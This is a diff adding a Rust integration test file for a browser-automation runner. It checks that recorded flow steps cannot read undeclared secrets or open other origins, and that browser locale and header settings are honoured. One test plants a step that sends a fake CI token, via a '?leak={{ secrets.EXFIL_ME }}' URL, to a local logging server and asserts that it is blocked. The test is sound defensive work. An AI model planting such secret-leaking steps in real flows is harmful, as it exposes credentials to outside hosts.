@@ -1,0 +1,214 @@
+//! What the atlas commands take from the project, and only from it: the steps an atlas holds
+//! read only the secrets runner.toml's `[atlas] secrets` names and open only the atlas's
+//! origin (and `[atlas] origins`), so an edited edge can neither send the CI's environment nor
+//! read another origin's page; and the replays run in the browser runner.toml's `[browser]`
+//! describes, as `runner run`'s flows do.
+
+use std::io::BufRead;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+
+use serde_json::json;
+
+use crate::atlas::Server;
+use crate::common::{output_within, runner, write};
+use crate::untrusted_steps::{atlas, read_json, write_json};
+use crate::untrusted_stores::{LIMIT, atlas_flow, record};
+
+/// A server that answers every GET with a page that shows its time zone and language, and
+/// logs each request (`<path> X-Flow=<header> AL=<Accept-Language>`) to `log`.
+const LOGGING: &str = r#"import http.server, sys
+log = sys.argv[1]
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        with open(log, 'a') as f:
+            f.write('%s X-Flow=%s AL=%s\n' % (self.path, self.headers.get('X-Flow'), self.headers.get('Accept-Language')))
+        b = b'<!doctype html><title>seen</title><main><h1>Seen</h1><p id="o"></p><script>document.getElementById("o").textContent = "zone " + Intl.DateTimeFormat().resolvedOptions().timeZone + " lang " + navigator.language;</script></main>'
+        self.send_response(200)
+        self.send_header('Content-Type', 'text/html')
+        self.send_header('Content-Length', str(len(b)))
+        self.end_headers()
+        self.wfile.write(b)
+    def log_message(self, *a):
+        pass
+s = http.server.HTTPServer(('127.0.0.1', 0), H)
+print(s.server_address[1], flush=True)
+s.serve_forever()
+"#;
+
+/// The logging server, its port and its log; ended when dropped.
+struct Logging {
+    child: Child,
+    port: String,
+    log: PathBuf,
+}
+
+impl Logging {
+    fn start(d: &Path) -> Logging {
+        let script = write(d, "logging.py", LOGGING);
+        let log = d.join("requests.log");
+        let mut child = Command::new("python3")
+            .arg(&script)
+            .arg(&log)
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("python3 starts");
+        let mut line = String::new();
+        std::io::BufReader::new(child.stdout.as_mut().unwrap())
+            .read_line(&mut line)
+            .unwrap();
+        Logging {
+            child,
+            port: line.trim().to_string(),
+            log,
+        }
+    }
+
+    fn requests(&self) -> String {
+        std::fs::read_to_string(&self.log).unwrap_or_default()
+    }
+}
+
+impl Drop for Logging {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// An edited edge reads an environment variable no one declared and opens another origin
+/// with it; another opens an internal page of another origin whose text `verify` would print.
+/// Each is refused before anything is sent, naming the edge file, in `verify`, `replay` and
+/// `export`, and the other origin receives nothing. (Before: `verify` sent the variable to the
+/// other origin and passed.) runner.toml's `[atlas] secrets` and `origins` are what lets a
+/// step read a secret or open another origin.
+#[test]
+fn an_edited_edge_reads_only_declared_secrets_and_opens_only_the_atlas_origin() {
+    let d = tempfile::tempdir().unwrap();
+    atlas_flow(d.path());
+    let (home, b) = record(d.path());
+    let server = Server::serve(&d.path().join("site"));
+    let other = Logging::start(d.path());
+    let base = ["--base-url", server.url.as_str()];
+    let edge = d.path().join(format!("atl/edges/{home}/to b/flow.yaml"));
+    let clean = read_json(&edge);
+    // Back to the app, as recorded (a replay takes it to the base URL).
+    let meta = read_json(&d.path().join(format!("atl/nodes/{home}/meta.json")));
+    let recorded = meta["url"].as_str().unwrap().to_string();
+    let planted = |first: serde_json::Value| {
+        let mut flow = clean.clone();
+        let steps = flow["steps"].as_array_mut().unwrap();
+        steps.insert(0, json!({ "open": recorded }));
+        steps.insert(0, first);
+        write_json(&edge, &flow);
+    };
+    let said = format!("edges/{home}/to b/flow.yaml: step 1 (`open`): ");
+    let verify = |env: Option<(&str, &str)>| {
+        let mut c = runner(d.path());
+        c.args(["atlas", "verify", "--atlas", "atl"]).args(base);
+        if let Some((k, v)) = env {
+            c.env(k, v);
+        }
+        output_within(c, LIMIT)
+    };
+
+    // A secret no one declared, sent to another origin.
+    let leak = json!({"open": format!("http://localhost:{}/frame.html?leak={{{{ secrets.EXFIL_ME }}}}", other.port)});
+    planted(leak.clone());
+    let (code, out, err) = verify(Some(("EXFIL_ME", "ci-deploy-token-77")));
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(
+        out.contains(&format!(
+            "{said}it reads the secret `EXFIL_ME`, which runner.toml's `[atlas] secrets` does not name (it names none)"
+        )),
+        "{out}{err}"
+    );
+    let (code, out, err) = atlas(d.path(), &[&["replay", b.as_str()][..], &base].concat());
+    assert_ne!(code, 0, "{out}{err}");
+    assert!(format!("{out}{err}").contains(&said), "{out}{err}");
+    let (code, out, err) = atlas(d.path(), &["export", b.as_str()]);
+    assert_ne!(code, 0, "{out}{err}");
+    assert!(format!("{out}{err}").contains("`EXFIL_ME`"), "{out}{err}");
+
+    // Declared for the atlas, it still goes nowhere but the atlas's origin.
+    write(
+        d.path(),
+        "runner.toml",
+        "[atlas]\nsecrets = [\"EXFIL_ME\"]\n",
+    );
+    let (code, out, err) = verify(Some(("EXFIL_ME", "ci-deploy-token-77")));
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(
+        out.contains(&format!("{said}it opens `http://localhost:{}/frame.html?leak={{{{ secrets.EXFIL_ME }}}}`, which is not on the atlas's origin", other.port)),
+        "{out}{err}"
+    );
+
+    // Another origin's internal page, whose text verify would report as drift.
+    planted(json!({"open": format!("http://localhost:{}/internal.html", other.port)}));
+    let (code, out, err) = verify(None);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(out.contains(&said), "{out}{err}");
+    assert_eq!(other.requests(), "", "the other origin was sent a request");
+
+    // runner.toml naming that origin lets it be opened (the project's own choice).
+    write(
+        d.path(),
+        "runner.toml",
+        &format!(
+            "[atlas]\nsecrets = [\"EXFIL_ME\"]\norigins = [\"http://localhost:{}\"]\n",
+            other.port
+        ),
+    );
+    let (code, out, err) = verify(None);
+    assert_eq!(code, 0, "{out}{err}");
+    assert!(other.requests().contains("/internal.html"), "{out}{err}");
+
+    // The clean atlas verifies with no runner.toml at all.
+    std::fs::remove_file(d.path().join("runner.toml")).unwrap();
+    write_json(&edge, &clean);
+    let (code, out, err) = verify(None);
+    assert_eq!(code, 0, "{out}{err}");
+}
+
+/// `explore` and `atlas verify` open the app with runner.toml's `[browser]` headers, locale
+/// and time zone, as `runner run` does. (Before: a plain browser, UTC and en-US, no header.)
+#[test]
+fn explore_and_verify_take_the_projects_browser_settings() {
+    let d = tempfile::tempdir().unwrap();
+    let app = Logging::start(d.path());
+    write(
+        d.path(),
+        "runner.toml",
+        "[browser]\nlocale = \"de-DE\"\ntimezone = \"Asia/Tokyo\"\n[browser.headers]\nX-Flow = \"from-toml\"\n",
+    );
+    let url = format!("http://127.0.0.1:{}/index.html", app.port);
+    let mut c = runner(d.path());
+    c.args(["explore", &url, "--atlas", "atl", "--max-nodes", "2"]);
+    let (code, out, err) = output_within(c, LIMIT);
+    assert_eq!(code, 0, "{out}{err}");
+    let explored = app.requests();
+    assert!(
+        explored.contains("/index.html X-Flow=from-toml AL=de-DE"),
+        "{explored}"
+    );
+    let snapshots: String = walkdir::WalkDir::new(d.path().join("atl/nodes"))
+        .into_iter()
+        .filter_map(Result::ok)
+        .filter(|e| e.file_name() == "snapshot.txt")
+        .map(|e| std::fs::read_to_string(e.path()).unwrap())
+        .collect();
+    assert!(
+        snapshots.contains("zone Asia/Tokyo lang de-DE"),
+        "{snapshots}"
+    );
+    std::fs::write(&app.log, "").unwrap();
+    let (code, out, err) = atlas(d.path(), &["verify"]);
+    assert_eq!(code, 0, "{out}{err}");
+    let verified = app.requests();
+    assert!(
+        verified.contains("/index.html X-Flow=from-toml AL=de-DE"),
+        "{verified}"
+    );
+    assert!(!verified.contains("X-Flow=None"), "{verified}");
+}
